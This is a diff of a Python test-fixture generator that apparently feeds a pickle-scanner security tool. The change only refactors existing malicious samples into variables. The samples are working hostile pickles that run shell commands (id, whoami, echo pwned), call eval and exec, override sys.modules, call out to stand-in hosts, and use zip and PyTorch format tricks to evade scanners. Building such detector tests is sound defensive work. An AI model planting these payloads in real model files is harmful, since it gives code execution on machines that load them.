@@ -90,94 +90,68 @@ def of_picklescan() -> Iterator[tuple[str, str, bytes]]:
         file, module, qualified = line.split()
         yield file, "x.pkl", program(reduce(module, qualified, PAYLOAD))
     call = program(reduce("builtins", "eval", "print('456')"))
-    yield (
-        "malicious0 (apply, compile, getattr)",
-        "x.pkl",
-        (
-            b"c__builtin__\nglobals\n(tRp100\n0c__builtin__\ncompile\n(S'x=1'\nS''\nS'exec'\ntRp101\n0"
-            b"c__builtin__\neval\n(g101\ng100\ntRp102\n0c__builtin__\ngetattr\n(c__builtin__\ndict\n"
-            b"S'get'\ntRp103\n0c__builtin__\napply\n(g103\n(g100\nS'x'\nltRp104\n0g104\n."
-        ),
+    data = (
+        b"c__builtin__\nglobals\n(tRp100\n0c__builtin__\ncompile\n(S'x=1'\nS''\nS'exec'\ntRp101\n0"
+        b"c__builtin__\neval\n(g101\ng100\ntRp102\n0c__builtin__\ngetattr\n(c__builtin__\ndict\n"
+        b"S'get'\ntRp103\n0c__builtin__\napply\n(g103\n(g100\nS'x'\nltRp104\n0g104\n."
     )
+    yield "malicious0 (apply, compile, getattr)", "x.pkl", data
     yield "malicious1_v0", "x.pkl", b"c__builtin__\neval\np0\n(Vprint('456')\np1\ntp2\nRp3\n."
     yield "malicious3 (httplib)", "x.pkl", b"chttplib\nHTTPSConnection\n(Vgithub.com\ntR."
-    yield (
-        "malicious6 (second pickle)",
-        "x.pickle",
-        (
-            pickle.dumps(["a", "b", "c"])
-            + program(reduce("requests.api", "get", "https://x.invalid"))
-        ),
+    data = pickle.dumps(["a", "b", "c"]) + program(
+        reduce("requests.api", "get", "https://x.invalid")
     )
+    yield "malicious6 (second pickle)", "x.pickle", data
     yield "malicious10 (INST)", "x.pkl", b"(S'raise RuntimeError'\ni__builtin__\nexec\n."
     yield "malicious11 (memo)", "x.pkl", _GETS
     yield "malicious-invalid-bytes", "x.pkl", _GETS + b"\n\n\t\t"
-    yield "malicious12 (attrgetter)", "x.pkl", program(
-        reduce("operator", "attrgetter", "system"), reduce("builtins", "__import__", "os"),
-        b"\x85R", inner(("echo pwned",)), b"R",
-    )  # fmt: skip
-    yield (
-        "malicious19 (partial of torch.load)",
-        "x.pkl",
-        program(name("functools", "partial"), name("torch.serialization", "load"), b"\x85R", b")R"),
+    data = program(
+        reduce("operator", "attrgetter", "system"),
+        reduce("builtins", "__import__", "os"),
+        b"\x85R",
+        inner(("echo pwned",)),
+        b"R",
     )
+    yield "malicious12 (attrgetter)", "x.pkl", data
+    data = program(
+        name("functools", "partial"), name("torch.serialization", "load"), b"\x85R", b")R"
+    )
+    yield "malicious19 (partial of torch.load)", "x.pkl", data
     yield "malicious23 (STRING)", "x.pkl", b"S'os'\nS'system'\n\x93S'ls'\n\x85R."
-    yield (
-        "GHSA-84r2-jw7c-4r5q (methodcaller, locate)",
-        "x.pkl",
-        program(
-            reduce("operator", "methodcaller", "system", "id"),
-            reduce("pydoc", "locate", "os"),
-            b"\x85R",
-        ),
+    data = program(
+        reduce("operator", "methodcaller", "system", "id"),
+        reduce("pydoc", "locate", "os"),
+        b"\x85R",
     )
-    yield (
-        "GHSA-955r-x9j8-7rhh (_operator)",
-        "x.pkl",
-        (
-            b"cbuiltins\n__import__\n(Vos\ntRp0\n0c_operator\nmethodcaller\n(Vsystem\nVid\ntR(g0\ntR."
-        ),
+    yield "GHSA-84r2-jw7c-4r5q (methodcaller, locate)", "x.pkl", data
+    data = (
+        b"cbuiltins\n__import__\n(Vos\ntRp0\n0c_operator\nmethodcaller\n(Vsystem\nVid\ntR(g0\ntR."
     )
-    yield (
-        "GHSA-46h3-79wf-xr6c (_operator)",
-        "x.pkl",
-        (b"c_operator\nattrgetter\n(Vsystem\ntR(cbuiltins\n__import__\n(Vos\ntRtR(Vid\ntR."),
-    )
-    yield (
-        "GHSA-jgw4-cr84-mqxg (.bin)",
-        "x.bin",
-        program(reduce("asyncio.unix_events", "_UnixSubprocessTransport._start", {}, "whoami")),
-    )
+    yield "GHSA-955r-x9j8-7rhh (_operator)", "x.pkl", data
+    data = b"c_operator\nattrgetter\n(Vsystem\ntR(cbuiltins\n__import__\n(Vos\ntRtR(Vid\ntR."
+    yield "GHSA-46h3-79wf-xr6c (_operator)", "x.pkl", data
+    data = program(reduce("asyncio.unix_events", "_UnixSubprocessTransport._start", {}, "whoami"))
+    yield "GHSA-jgw4-cr84-mqxg (.bin)", "x.bin", data
     call = b'cos\nsystem\nVecho "pwned"\n\x85R0'
     yield "keyerror-exploit", "x.pkl", program(call, text("os"), b"\x94h\x03h\x00\x93K\x42")
-    yield (
-        "type-confusion-exploit",
-        "x.pkl",
-        program(call, b"J\x2a\0\0\0\x94", text("os"), b"\x94h\x00h\x01\x93K\x42"),
-    )
+    data = program(call, b"J\x2a\0\0\0\x94", text("os"), b"\x94h\x00h\x01\x93K\x42")
+    yield "type-confusion-exploit", "x.pkl", data
     yield "broken_model", "x.pkl", b"cbuiltins\nexec\n(X>\nf = open('x', 'a')tRX."
     yield "types_CodeType", "x.pkl", program(reduce("types", "CodeType", 0, 0, 0, b"", ()))
-    yield "cloudpickle_codeinjection", "x.pkl", program(
+    data = program(
         reduce("cloudpickle.cloudpickle", "_make_function", None),
-        name("cloudpickle.cloudpickle", "_function_setstate"), b"}b",
-    )  # fmt: skip
-    yield (
-        "sys_module_override",
-        "x.pkl",
-        (b"csys\nmodules\n}(Vsys\ncos\n__dict__\nub0csys\nsystem\n(Vid\ntR."),
+        name("cloudpickle.cloudpickle", "_function_setstate"),
+        b"}b",
     )
-    yield (
-        "pytorch_magic_bypass",
-        "x.pt",
-        legacy(evil() + pickle.dumps(None), magic=b"\x80\x02c__builtin__\neval\nU\x041+41\x85R."),
-    )
+    yield "cloudpickle_codeinjection", "x.pkl", data
+    data = b"csys\nmodules\n}(Vsys\ncos\n__dict__\nub0csys\nsystem\n(Vid\ntR."
+    yield "sys_module_override", "x.pkl", data
+    data = legacy(evil() + pickle.dumps(None), magic=b"\x80\x02c__builtin__\neval\nU\x041+41\x85R.")
+    yield "pytorch_magic_bypass", "x.pt", data
     yield "malicious1.zip", "x.zip", zipped({"data.pkl": call})
     yield "malicious1_wrong_ext.zip", "x.zip", zipped({"data.txt": call})
-    yield (
-        "malicious1_central_directory.zip",
-        "x.zip",
-        (zipped({"data.pkl": call}).replace(b"data.pkl", b"datap.kl", 1)),
-    )
+    data = zipped({"data.pkl": call}).replace(b"data.pkl", b"datap.kl", 1)
+    yield "malicious1_central_directory.zip", "x.zip", data
     yield "malicious1_crc.zip", "x.zip", zipped({"data.pkl": call}).replace(b"456", b"123", 1)
     for bit in (0x1, 0x20, 0x40):
         raw = bytearray(zipped({"model/config.pkl": call}))
@@ -185,9 +159,6 @@ def of_picklescan() -> Iterator[tuple[str, str, bytes]]:
         raw[raw.index(b"PK\x01\x02") + 8] |= bit
         yield f"malicious1_0x{bit:x}.zip", "x.zip", bytes(raw)
     yield "malicious1.7z", "x.7z", b"7z\xbc\xaf\x27\x1c\0\4" + call
-    yield (
-        "dns_exfiltration.npy",
-        "x.npy",
-        array(program(reduce("ssl", "get_server_certificate", ("x.invalid", 443)))),
-    )
+    data = array(program(reduce("ssl", "get_server_certificate", ("x.invalid", 443))))
+    yield "dns_exfiltration.npy", "x.npy", data
     yield "bad_pytorch.pt (a picture)", "x.pt", b"\211PNG\r\n\032\n"
